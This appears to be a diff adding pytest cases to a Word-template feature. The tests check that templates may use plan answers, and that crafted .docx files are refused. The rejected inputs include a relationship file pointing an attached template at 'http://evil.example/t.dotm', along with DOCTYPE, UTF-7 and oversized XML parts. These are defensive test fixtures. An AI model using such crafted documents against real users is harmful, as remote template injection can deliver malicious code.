@@ -185,6 +185,13 @@ def test_a_word_template_is_filled_in_and_escaped(manager, client_north):
     assert text_of(file) == "Bonjour A & B <c> {{ 1 }}, sans contrat"
 
 
+def test_a_word_template_may_ask_for_answers_of_a_plan(manager):
+    content = docx("{{ answers.visite.releve }}{% if facts.x == 'a' %}b{% endif %}{{ client.name }}")
+    assert create_template(by=manager, name_fr="W", name_en="W", kind="word", file=("w.docx", content)).file
+    with pytest.raises(Refusal):
+        create_template(by=manager, name_fr="V", name_en="V", kind="word", file=("v.docx", docx("{{ client.x.y }}")))
+
+
 @pytest.mark.parametrize(
     "source",
     [
@@ -256,6 +263,17 @@ def test_what_is_no_plain_word_document_is_refused():
                 b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
             },
         ),
+        docx(
+            "x",
+            {
+                "word/_rels/settings.xml.rels": b'<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/'
+                b'relationships"><x:Relationship Id="a" Type="http://x/attachedTemplate" '
+                b'Target="http://evil.example/t.dotm" TargetMode="External"/></x:Relationships>'
+            },
+        ),
+        docx("x", {"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}),
+        docx("x", {"word/x.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
+        docx("x", {"word/_rels/x.xml.rels": b"<Relationships"}),
         docx("x", {"word/big.xml": b" " * 61_000_000}),
     ):
         with pytest.raises(Refusal) as caught:
